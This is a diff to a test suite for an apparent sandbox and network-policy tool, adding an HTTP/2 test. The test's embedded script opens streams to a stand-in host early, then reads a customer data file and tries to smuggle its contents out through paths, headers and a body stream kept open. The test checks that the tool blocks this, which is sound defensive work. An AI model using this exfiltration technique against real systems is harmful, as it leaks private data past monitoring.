@@ -8,6 +8,7 @@ import shutil
 import pytest
 
 from conftest import program
+from kit.h2 import H2Server
 from kit.process import SLOW, wait_until
 
 ATTACK = pathlib.Path(__file__).parent / "kit/ratchet_attack.py"
@@ -340,6 +341,65 @@ def test_tls_that_is_open_at_the_moment(bailey, make_origin, authority, home, wo
     assert f"read: {secret}" in done.text, done
     received = sink.received()
     assert b"harmless" in received and secret.encode() not in received
+    assert [r for r in map(json.loads, audit.read_text().splitlines()) if r.get("reason") == "ratchet" and r["kind"] != "ratchet"]
+
+
+H2_ATTACK = """
+import socket, ssl, sys, threading, time
+import h2.exceptions
+from peer import H2Client
+port = int(sys.argv[1])
+box, stop, first = [b"harmless"], time.monotonic() + 20, threading.Event()
+def send():
+    while time.monotonic() < stop:
+        try:
+            s = socket.create_connection(("127.0.0.1", 3128), 5)
+            s.sendall(b"CONNECT sink.test:%d HTTP/1.1\\r\\nHost: sink.test:%d\\r\\n\\r\\n" % (port, port))
+            if b" 200 " not in s.recv(4096).split(b"\\r\\n")[0]:
+                raise OSError("refused")
+            context = ssl.create_default_context()
+            context.set_alpn_protocols(["h2"])
+            client = H2Client(context.wrap_socket(s, server_hostname="sink.test"), f"sink.test:{port}")
+            assert client.ask("/first").status == 200
+            body = client.open("/body", "POST", end=False)
+            while time.monotonic() < stop:
+                client.send(body, b"<" + box[0] + b">", end=False)
+                if client.ask("/path?" + box[0].decode(), headers=[("x-box", box[0].decode())]).status == 200:
+                    first.set()
+        except (OSError, AssertionError, h2.exceptions.ProtocolError):
+            time.sleep(0.002)
+threads = [threading.Thread(target=send, daemon=True) for _ in range(3)]
+for thread in threads: thread.start()
+assert first.wait(20), "no stream"
+stop = time.monotonic() + 1.5
+box[0] = open("data/customers.csv", "rb").read().strip()
+for thread in threads: thread.join()
+print("read:", box[0].decode())
+"""
+
+
+def test_streams_that_are_open_at_the_moment(bailey, make_origin, authority, home, work, secret):
+    """HTTP/2: a body that goes on, and requests that begin, on connections from before."""
+    arrived, where_from = [], pathlib.Path(__file__).with_name("kit") / "h2.py"
+
+    def take(server, number, headers):
+        arrived.append(repr(headers))
+        if headers[":path"] != "/body":
+            server.respond(number, end=True)
+        arrived.extend(bytes(piece).decode() for piece in server.receive(number))
+    sink = make_origin(raw=H2Server(take), tls=authority.context("sink.test", alpn=("h2", "http/1.1")))
+    (work / "attack.py").write_text(H2_ATTACK)
+    (work / "peer.py").write_bytes(where_from.read_bytes())
+    (home / "token").write_text("real-secret-value")
+    (home / "hosts").write_text("127.0.0.1 sink.test\n")
+    where, file, audit = f"sink.test:{sink.port}", home / "policy.yaml", home / "audit.jsonl"
+    file.write_text(json.dumps({"network": {"allow": [where], "allow_private": [where]}, "ratchet": closing("data/**"), "credentials": [
+        {"name": "own", "env": "TOKEN", "source": f"file:{home / 'token'}", "hosts": [where], "slot": "bearer"}]}))
+    done = bailey("run", "--policy", str(file), "--hosts", str(home / "hosts"), "--ca-bundle", str(authority.file), "--audit", str(audit), "--",
+                  "/usr/bin/python3", "attack.py", str(sink.port), cwd=work, timeout=60 * SLOW).check()
+    assert f"read: {secret}" in done.text, done
+    assert "<harmless>" in "".join(arrived) and any("harmless" in text and ":path" in text for text in arrived)
+    assert not [text for text in arrived if secret in text] and secret not in "".join(text for text in arrived if ":path" not in text)
     assert [r for r in map(json.loads, audit.read_text().splitlines()) if r.get("reason") == "ratchet" and r["kind"] != "ratchet"]
 
 
